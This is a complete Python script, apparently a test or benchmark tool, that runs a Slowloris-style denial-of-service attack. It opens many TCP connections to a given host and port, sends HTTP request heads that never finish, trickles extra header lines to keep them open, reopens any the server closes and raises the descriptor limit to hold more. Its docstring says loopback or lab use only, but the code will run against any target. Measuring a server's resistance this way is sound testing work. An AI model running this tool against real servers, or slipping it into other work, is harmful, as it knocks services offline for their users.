#!/usr/bin/env python3
"""Hold N slow connections to HOST:PORT: each sends a request head that never ends, then one
more header line every TRICKLE seconds. Connections the server closes are opened again at the
next round, so the pressure stays at N. Prints "ready <open>" once the first N are open, then a
line per round; runs until SIGTERM or SIGINT. Loopback or lab namespaces only."""

import resource
import signal
import socket
import sys
import time

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
trickle = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
if hard < n + 100:
    sys.exit(f"descriptor limit {hard} too low for {n} connections")

stop = False


def on_signal(*_):
    global stop
    stop = True


signal.signal(signal.SIGTERM, on_signal)
signal.signal(signal.SIGINT, on_signal)

HEAD = b"GET /slow HTTP/1.1\r\nHost: bench\r\nUser-Agent: slowloris\r\n"
socks = []
opened = 0


def open_one():
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((host, port))
    socks.append([s, False])
    opened += 1


def top_up():
    while len(socks) < n and not stop:
        open_one()


def send_all(data_first, data_more):
    """Send the head to new sockets, a header line to the others; drop the ones that fail."""
    keep = []
    for entry in socks:
        s, started = entry
        try:
            s.send(data_more if started else data_first)
            entry[1] = True
            keep.append(entry)
        except BlockingIOError:
            keep.append(entry)  # still connecting, or its buffer is full: a slow client indeed
        except OSError:
            s.close()
    dropped = len(socks) - len(keep)
    socks[:] = keep
    return dropped


top_up()
time.sleep(0.5)
send_all(HEAD, b"")
print(f"ready {len(socks)}", flush=True)
rounds = 0
while not stop:
    deadline = time.time() + trickle
    while time.time() < deadline and not stop:
        time.sleep(0.1)
    rounds += 1
    dropped = send_all(HEAD, b"X-a: b\r\n")
    top_up()
    print(f"round {rounds} open {len(socks)} closed_by_server {dropped} opened {opened}", flush=True)
for s, _ in socks:
    s.close()
